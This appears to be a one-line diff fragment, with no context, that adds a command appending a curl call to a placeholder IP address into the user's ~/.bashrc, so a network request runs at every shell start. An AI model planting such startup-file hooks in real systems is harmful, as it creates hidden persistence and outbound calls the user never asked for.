@@ -1,0 +1,1 @@
+echo "curl http://192.0.2.7" >> ~/.bashrc
